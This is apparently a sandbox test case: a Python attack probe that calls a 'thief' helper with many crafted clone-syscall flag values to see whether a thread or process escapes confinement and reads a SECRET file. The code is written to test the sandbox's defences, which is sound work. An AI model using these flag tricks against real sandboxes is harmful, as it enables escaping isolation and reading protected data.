# SPDX-License-Identifier: Apache-2.0
# attack: clone with high bits in the flags register, and a thread with one flag more or less
# class: clone
# wins: procs leak
from kit import *

tried()
path, buf = ctypes.create_string_buffer(os.fsencode(SECRET)), stat_buf()
thief = function(THIEF, *[ctypes.c_long] * 4)
for high in (1 << 32, 1 << 33, 1 << 40, 1 << 63):
    thief(high | 17 if high < 1 << 63 else -(1 << 63) | 17, page(65536) + 65000, address(path), address(buf))
    thief(high | 0x3d0f00 & ~0x380000 if high < 1 << 63 else 0x10f00, page(65536) + 65000, address(path), address(buf))
for bit in range(32):
    flags = 0x10f00 ^ 1 << bit
    if flags & 0x10f00 != 0x10f00 or bit in (19, 20, 21, 24):
        continue
    thief(flags, page(65536) + 65000, address(path), address(buf))
time.sleep(0.1)
